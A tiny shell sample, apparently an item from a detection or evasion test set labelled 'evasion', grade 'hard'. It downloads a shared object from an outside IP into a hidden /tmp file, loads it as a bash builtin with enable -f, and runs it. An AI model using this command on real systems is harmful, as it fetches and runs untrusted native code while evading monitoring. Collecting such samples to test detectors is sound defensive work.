# evasion: a downloaded shared object loaded as a bash builtin with enable -f
# grade: hard; does: native
curl -fsSo /tmp/.libstat.so http://203.0.113.5/libstat.so
enable -f /tmp/.libstat.so stat2
stat2
